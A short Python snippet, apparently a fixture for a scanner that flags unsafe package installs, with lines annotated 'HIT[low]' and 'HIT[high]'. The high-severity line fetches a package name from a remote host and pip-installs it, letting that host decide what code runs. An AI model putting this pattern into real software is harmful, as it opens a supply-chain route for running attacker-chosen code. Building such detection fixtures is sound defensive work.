import subprocess
import sys

import requests

subprocess.run([sys.executable, "-m", "pip", "install", "requests"])  # HIT[low]
name = requests.get("https://x.example/name").text
subprocess.run(["pip", "install", name])  # HIT[high]
